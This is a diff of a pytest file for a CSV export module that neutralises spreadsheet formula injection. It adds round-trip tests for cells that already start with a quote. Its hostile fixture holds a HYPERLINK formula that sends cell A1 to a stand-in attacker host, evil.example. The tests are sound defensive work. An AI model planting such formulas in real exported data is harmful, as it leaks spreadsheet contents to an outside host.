@@ -1,11 +1,12 @@
-"""Every CSV cell a spreadsheet would read as a formula is neutralised, the rest kept as is."""
+"""Every CSV cell a spreadsheet would read as a formula is neutralised, the rest kept as is;
+a cell's own leading quote is quoted too, so that the quote is always one to take back."""
 
 import csv
 import io
 
 import pytest
 
-from audit.csv_export import csv_lines, neutralise_cell
+from audit.csv_export import cell_value, csv_lines, neutralise_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -22,7 +23,8 @@ def test_a_cell_starting_like_a_formula_gets_a_quote_and_keeps_its_text(value):
     assert neutralise_cell(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", ["plain reason", "tenant-42:inv-1847", "a=b", "1-2", "", "'x"])
+@pytest.mark.parametrize("value", ["plain reason", "tenant-42:inv-1847", "a=b", "1-2", "",
+                                   "x'"])
 def test_an_ordinary_cell_is_kept_exactly(value):
     assert neutralise_cell(value) == value
 
@@ -38,3 +40,14 @@ def test_csv_lines_neutralise_every_cell_and_round_trip_through_a_csv_reader():
     lines = "".join(csv_lines(["id", "reason"], [[1, HOSTILE[0]], [2, "fine, with a comma"]]))
     rows = list(csv.reader(io.StringIO(lines)))
     assert rows == [["id", "reason"], ["1", "'" + HOSTILE[0]], ["2", "fine, with a comma"]]
+
+
+@pytest.mark.parametrize("value", [*HOSTILE, "'x", "'-1 duplicate", "''", "plain", "", "x'"])
+def test_a_cell_read_back_is_the_text_it_was_written_from(value):
+    """One quote taken back, whatever the text: "-1" and "'-1" are written apart."""
+    assert cell_value(neutralise_cell(value)) == value
+
+
+def test_a_text_that_begins_with_a_quote_is_written_with_one_more():
+    assert neutralise_cell("'-1") == "''-1" and neutralise_cell("-1") == "'-1"
+
